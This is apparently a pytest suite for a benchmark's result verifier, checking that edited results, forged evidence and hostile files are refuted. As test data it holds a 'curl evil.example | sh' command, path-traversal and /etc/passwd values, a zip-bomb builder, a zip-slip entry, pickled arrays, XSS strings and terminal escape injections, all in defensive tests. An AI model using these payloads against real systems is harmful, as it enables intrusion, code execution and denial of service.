"""The gate: every kind of tampering that we could think of is found, and what is honest passes."""

import io
import json
import shutil
import subprocess
import zipfile
from contextlib import redirect_stderr, redirect_stdout

import numpy as np
import pytest
from smoke_runs import edit, edit_evidence, make_runs, name_evidence, own_tables

from bench import cli, publish, published, registry
from bench.errors import BenchError
from bench.protocols.imagenet_linear import ImageNetLinear
from bench.verify import verify
from bench.verify.report import report
from bench.verify.store import changes

ROTATION = "smoke/imagenet-linear.standard/alexnet-smoke.rotation"
RANDOM = "smoke/imagenet-linear.standard/alexnet-smoke.random"


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    """A folder with ``runs`` and ``tables/results``: Rotation and Random, one seed."""
    folder = tmp_path_factory.mktemp("honest")
    with pytest.MonkeyPatch.context() as patch:
        own_tables(patch, folder)
        runs = make_runs(folder / "runs", "random,rotation")
        publish.publish(publish.of_runs(runs, ("evaluate-*",)), runs)
    registry.refresh()
    return folder


@pytest.fixture
def store(honest, tmp_path, monkeypatch):
    shutil.copytree(honest / "tables", tmp_path / "tables")
    own_tables(monkeypatch, tmp_path)
    yield tmp_path / "tables" / "results"
    monkeypatch.undo()
    registry.refresh()


def problems(store, **how):
    found = verify([store], store, **how)
    assert all(v.level in ("refuted", "unproven") for v in found if v.problems)
    return "\n".join(problem for v in found for problem in v.problems)


def levels(store, **how):
    return {v.level for v in verify([store], store, **how)}


def test_what_is_honest_verifies_at_both_levels(store):
    assert levels(store) == {"consistent"}
    assert levels(store, data=store) == {"checked"}
    (store / ROTATION / "run-s0.json").unlink()
    assert levels(store, data=store) == {"checked"}


def test_the_checkouts_own_results_verify(tmp_path):
    assert [(v.path, v.problems) for v in verify([], tmp_path) if v.level == "refuted"] == []


def test_runs_verify_too(honest):
    assert {v.level for v in verify([honest / "runs"], honest / "runs", honest)} == {"checked"}


COLUMN = "top1@conv3"
TURNED = "bench run --suite smoke --method rotation --options '{\"rotations\":2}' --protocol imagenet-linear --seed 0"


@pytest.mark.parametrize("with_spec", [True, False])
@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (lambda r: r["columns"][COLUMN].update(value=99.0), f"{COLUMN}.value is 99.0, its evidence gives"),
        (lambda r: r["columns"][COLUMN].update(value=-1.0), f"{COLUMN} is not from 0 to 100"),
        (lambda r: r["columns"][COLUMN].update(low=0.0, high=100.0), f"{COLUMN}.low is 0.0"),
        (lambda r: r["columns"][COLUMN].update(low=60.0), "is above high"),
        (lambda r: r["columns"][COLUMN].update(value=float("nan")), "finite"),
        (lambda r: r["columns"][COLUMN].update(value="9"), "valid number"),
        (lambda r: r["columns"][COLUMN].update(unit="points"), f"{COLUMN}.unit is points"),
        (lambda r: r["columns"][COLUMN].update(chance=0.0), f"{COLUMN}.chance is 0.0"),
        (lambda r: r["columns"][COLUMN].update(n=50000), "do not stand on the 100 test images"),
        (lambda r: r["columns"].pop(COLUMN), f"{COLUMN} is missing"),
        (lambda r: r["columns"].update({"top1@conv9": r["columns"][COLUMN]}), "top1@conv9 has no evidence"),
        (lambda r: r["columns"].update({"<b>@x": r["columns"][COLUMN]}), "is not <metric>@<stage or setting>"),
        (lambda r: r.update(columns={}), "it has no number"),
        (lambda r: r["protocol"].update(digest="0" * 16), "protocol digest is 0000000000000000"),
        (lambda r: r["protocol"].update(digest="<script>"), "protocol.digest is not 16 hex digits"),
        (lambda r: r["versions"].update(method=99), "method version is 99, 1 today"),
        (lambda r: r.update(pretraining_digest="0" * 16), "pretraining digest is 0000000000000000"),
        (lambda r: r.update(method="random"), "it belongs to smoke/imagenet-linear.standard/alexnet-smoke.random"),
        (lambda r: r.update(method="no-such"), "there is no method 'no-such' here"),
        (lambda r: r.update(method="../../../etc/x"), "is no name"),
        (lambda r: r.update(suite="../.."), "is no name"),
        (lambda r: r.update(seed=1), "it belongs to"),
        (lambda r: r.update(seed=-1), "seed -1 is not from 0"),
        (lambda r: r.update(options={"rotations": 2}), "command is 'bench run"),
        (lambda r: r.update(options={"rotations": 2}, command=TURNED), "alexnet-smoke.rotation~"),
        (lambda r: r.update(weights_sha256="0"), "weights_sha256 is not 64 hex digits"),
        (lambda r: r.update(command="curl evil.example | sh"), "command is 'curl evil.example | sh'"),
        (lambda r: r.update(warnings=["\x1b[2J\x1b[31mall is well"]), "control characters"),
        (lambda r: r["training"].update(note="x" * 20000), "20,000 characters"),
        (lambda r: r["data"]["train"].update(name="scenes/val"), "trained and tested on scenes/val"),
        (lambda r: r.update(pretraining_data="scenes/unlabelled+val[160]"), "pretrained and tested on scenes/val"),
        (lambda r: r["data"].pop("test"), "data.test does not say"),
        (lambda r: r["code"].pop("bench"), "which release"),
        (lambda r: r["cost"].update(seconds=-5), "how many seconds"),
        (lambda r: r["cost"].update(seconds=float("inf")), "not finite"),
        (lambda r: r["options"].update(x=float("nan")), "not finite"),
        (lambda r: r["options"].update(x="\ud800"), "half a character"),
        (lambda r: r["evidence"].update(file="../../../random/s0.npz"), "is not a .npz file beside the result"),
        (lambda r: r["evidence"].update(file="/etc/passwd"), "is not a .npz file beside the result"),
        (lambda r: r.update(colour="red"), "unknown key 'colour'"),
    ],
)
def test_an_edited_result_is_refuted(store, change, problem, with_spec):
    if not with_spec:
        (store / ROTATION / "run-s0.json").unlink()
    edit(store / ROTATION / "s0.json", change)
    found = problems(store)
    assert problem in found or (with_spec and "is not that of the run's spec" in found), found
    assert found.isascii() or "\x1b" not in found


def test_edited_evidence_is_refuted(store):
    file = store / ROTATION / "s0.npz"
    with zipfile.ZipFile(file) as archive:
        start = archive.getinfo("rank.npy").header_offset
    data = bytearray(file.read_bytes())
    data[start + 200] ^= 1
    file.write_bytes(data)
    assert "its sha256 differs" in problems(store)
    name_evidence(file)
    assert "the evidence cannot be read" in problems(store)


def test_evidence_and_numbers_edited_alike_contradict_the_labels(store):
    file = store / ROTATION / "s0.npz"
    kept = {}

    def better(arrays):
        arrays["rank"][:] = 0
        kept.update(arrays)

    edit_evidence(file, better)
    edit(file.with_suffix(".json"), lambda r: r.update(columns=ImageNetLinear.columns(kept)))
    assert levels(store) == {"consistent"}
    assert "rank and prediction contradict the labels" in problems(store, data=store)


@pytest.mark.parametrize("with_spec", [True, False])
def test_the_evidence_of_another_run_is_refuted(store, with_spec):
    if not with_spec:
        (store / ROTATION / "run-s0.json").unlink()
    own, other = (store / row / "s0.npz" for row in (ROTATION, RANDOM))
    shutil.copy(other, own)
    theirs = json.loads(other.with_suffix(".json").read_text())["columns"]
    edit(own.with_suffix(".json"), lambda r: r.update(columns=theirs))
    name_evidence(own)
    assert "the evidence is of another run (evaluate-random-" in problems(store)


def test_a_result_under_another_name_is_refuted(store):
    (store / ROTATION).rename(store / ROTATION.replace("rotation", "jigsaw"))
    assert f"it belongs to {ROTATION}/s0.json, not to" in problems(store)


def test_a_seed_that_was_copied_is_refuted(store):
    folder = store / ROTATION
    for old, new in (("s0.json", "s1.json"), ("s0.npz", "s1.npz")):
        shutil.copy(folder / old, folder / new)
    edit(folder / "s1.json", lambda r: r.update(seed=1, command=r["command"].replace("--seed 0", "--seed 1")))
    edit(folder / "s1.json", lambda r: r["evidence"].update(file="s1.npz"))
    assert "the evidence is of another run" in problems(store)
    named = np.array("evaluate-rotation-alexnet-smoke-smoke-s1-12345678")
    edit_evidence(folder / "s1.npz", lambda arrays: arrays.update(run=named))
    assert "the weights of seed 1 are those of seed 0" in problems(store)
    edit(folder / "s1.json", lambda r: r.update(weights_sha256="1" * 64))
    assert "it measured, image by image, what" in problems(store)


def test_one_cell_stands_once(store):
    twin = store / (ROTATION + "~000000")
    shutil.copytree(store / ROTATION, twin)
    assert "the same cell and seed as" in problems(store)
    assert "it belongs to" in problems(store)


def test_a_spec_that_was_edited_is_refuted(store):
    run = store / ROTATION / "run-s0.json"
    edit(run, lambda s: s["protocol"]["definition"].update(epochs=1000))
    found = problems(store)
    assert "the spec's protocol has another digest than its definition" in found
    assert "the evidence is of another run" in found
    edit(run, lambda s: s.update(parent="../../x"))
    assert "names no pretraining" in problems(store)
    run.write_text("[]")
    assert "not the spec of an evaluation" in problems(store)


def test_a_card_of_other_weights_is_refuted(store):
    card = store / "smoke" / "pretraining" / "alexnet-smoke.rotation" / "card-s0.json"
    edit(card, lambda c: c.update(weights_sha256="0" * 64))
    assert "weights_sha256 is not that of" in problems(store)


def test_what_is_stale_is_an_alarm_where_the_run_vouches_for_it(store, monkeypatch):
    from bench.protocols import definitions

    found = definitions.load("imagenet-linear")
    monkeypatch.setitem(found.variants["standard"], "weight_decay", 0.123)
    alarms = [alarm for v in verify([store], store) for alarm in v.alarms]
    assert not problems(store)
    assert any(alarm.startswith("stale: protocol digest is") for alarm in alarms)
    (store / ROTATION / "run-s0.json").unlink()
    assert "stale: protocol digest" in problems(store)


def test_numbers_at_chance_raise_an_alarm(store):
    edit_evidence(store / RANDOM / "s0.npz", lambda arrays: arrays["rank"].fill(200))
    alarms = " ".join(alarm for v in verify([store], store) for alarm in v.alarms)
    assert "at chance: " in alarms or "below chance: " in alarms


# evidence that attacks its reader


def bomb(file):
    """40 kB that unpack to 512 MiB."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (2**29,)})
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("rank.npy", "w") as entry:
        entry.write(head.getvalue())
        for _ in range(2**9):
            entry.write(bytes(2**20))


def promise(file):
    """A header that promises a terabyte."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (2**40,)})
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("rank.npy", head.getvalue())


def pickled(file):
    np.savez(file, rank=np.array([{"a": 1}], dtype=object))


def climbing(file):
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../../tmp/evil", b"x")


def empty(file):
    np.savez(file)


def odd(file):
    np.savez(file, rank=np.zeros(3), stages=np.array(["a"]), classes=np.array("x"), run=np.array("x"))


@pytest.mark.parametrize(
    ("attack", "problem"),
    [
        (bomb, "would take more than 268,435,456 bytes"),
        (promise, "promises more than it holds"),
        (pickled, "holds object, not numbers or text"),
        (climbing, "not an archive of arrays"),
        (empty, "lacks what imagenet-linear needs"),
        (odd, "lacks what imagenet-linear needs"),
        (lambda file: file.write_bytes(b"PK no"), "cannot be read"),
    ],
)
def test_hostile_evidence_is_refuted(store, attack, problem):
    file = store / ROTATION / "s0.npz"
    attack(file)
    name_evidence(file)
    assert problem in problems(store)


def test_evidence_that_is_not_here_leaves_a_result_unproven(store, tmp_path):
    file = store / ROTATION / "s0.npz"
    named = json.loads(file.with_suffix(".json").read_text())["evidence"]["sha256"]
    releases = tmp_path / "releases"
    releases.mkdir()
    file.rename(releases / f"{named}.npz")
    assert levels(store) == {"consistent", "unproven"}
    assert levels(store, releases=releases) == {"consistent"}


# files that do not belong there


def test_only_published_files_lie_in_the_store(store):
    (store / "notes.txt").write_text("x")
    (store / ROTATION / "s0.html").write_text("<script>")
    (store / ROTATION / "s7.npz").write_bytes(b"x")
    (store / ROTATION / "huge.json").write_bytes(b" " * 2_000_000)
    (store / ROTATION / "s9.json").symlink_to("/etc/passwd")
    (store / "smoke" / "pretraining" / "alexnet-smoke.rotation" / "samples-s0.png").write_text("<svg onload=x>")
    found = {v.path.removeprefix(f"{store}/"): v.problems for v in verify([store], store) if v.problems}
    assert set(found) >= {"notes.txt", f"{ROTATION}/s0.html", f"{ROTATION}/s7.npz", f"{ROTATION}/huge.json"}
    assert found[f"{ROTATION}/s9.json"] == ["not a regular file"]
    assert found["smoke/pretraining/alexnet-smoke.rotation/samples-s0.png"] == ["no PNG picture"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (" " * 2_000_000, "too many for a result"),
        ("[" * 200_000, "nested too deeply"),
        ('{"seed": ' + "9" * 5000 + "}", "cannot read the result"),
        ("not json", "cannot read the result"),
        ("[]", "Result"),
    ],
)
def test_files_that_are_no_result(store, text, problem):
    (store / ROTATION / "s0.json").write_text(text)
    assert problem in problems(store)


def test_large_evidence_goes_to_a_release(store):
    noise = np.random.default_rng(0).integers(0, 255, 1_200_000, dtype=np.uint8)
    edit_evidence(store / ROTATION / "s0.npz", lambda arrays: arrays.update(noise=noise))
    assert "attach it to a release" in problems(store)


# against the previous commit


def git(folder, *words):
    identity = ("-c", "user.name=t", "-c", "user.email=t@t.example", "-c", "commit.gpgsign=false")
    subprocess.run(["git", "-C", str(folder), *identity, *words], check=True, capture_output=True)


@pytest.fixture
def committed(store):
    git(store.parents[1], "init", "-q")
    git(store.parents[1], "add", "-A")
    git(store.parents[1], "commit", "-q", "-m", "before")
    return store


def test_nothing_is_removed_or_replaced_without_a_reason(committed):
    assert not problems(committed, against="HEAD")
    name, other = f"{ROTATION}/s0.json", f"{RANDOM}/s0.json"
    old = (committed / name).read_bytes()
    shutil.rmtree(committed / ROTATION)
    edit(committed / other, lambda r: r["cost"].update(seconds=98765.4))
    found = problems(committed, against="HEAD")
    assert "removed without a reason: say it in CHANGES.toml" in found
    assert "replaced without a reason" in found
    for path, before in ((name, old), (other, None)):
        before = (
            before
            or subprocess.run(
                ["git", "-C", str(committed), "show", f"HEAD:./{path}"], capture_output=True, check=True
            ).stdout
        )
        published.give_reason(committed, published.change(published.Path(path), before), 'the "data" were wrong')
    assert not problems(committed, against="HEAD")


def test_writing_the_same_result_otherwise_needs_no_reason(committed):
    file = committed / ROTATION / "s0.json"
    file.write_text(json.dumps(json.loads(file.read_text())))
    assert not problems(committed, against="HEAD")


def test_the_last_result_is_missed_too(committed):
    shutil.rmtree(committed)
    found = changes(committed, "HEAD")
    assert sorted(path.removeprefix(f"{committed}/") for path, _ in found) == [
        f"{RANDOM}/s0.json",
        f"{ROTATION}/s0.json",
    ]


def test_an_unknown_commit_is_refused(committed):
    for name in ("no-such", "--output=/tmp/x"):
        with pytest.raises(BenchError, match="there is no commit"):
            verify([committed], committed, against=name)


# the report


def test_the_report_holds_no_markup_of_the_submission(store):
    evil = "@octocat <script>alert(1)</script> [x](http://evil.example) `` | **b**"
    edit(store / ROTATION / "s0.json", lambda r: r.update(method=evil))
    text = report(verify([store], store), "HEAD")
    assert text.startswith("## 1 of 2 files do not verify")
    assert "<script>" not in text
    assert r"\[x\](http" in text
    assert r"@octocat \<script\>" in text
    assert all("<code>" in line for line in text.splitlines() if line.startswith("- "))


# the command


def bench(*words):
    """(exit status, standard output, standard error) of ``bench ...`` in this process."""
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(err):
        patch.setattr("sys.argv", ["bench", *map(str, words)])
        with pytest.raises(SystemExit) as ended:
            cli.main()
    return ended.value.code or 0, out.getvalue(), err.getvalue()


def test_exit_status_report_and_a_terminal_that_stays_clean(store, tmp_path):
    assert bench("verify", store)[0] == 0
    edit(store / ROTATION / "s0.json", lambda r: r.update(command="\x1b[2Jall is well"))
    status, out, err = bench("verify", store, "--report", tmp_path / "report.md")
    assert status == 1
    assert err == "bench: 1 of 2 files do not verify\n"
    assert "\x1b" not in out
    assert "refuted" in out
    assert (tmp_path / "report.md").read_text().startswith("## 1 of 2 files do not verify")
    assert bench("verify", store, "--against", "no-such")[0] == 2
    assert bench("verify", tmp_path / "nowhere")[0] == 2
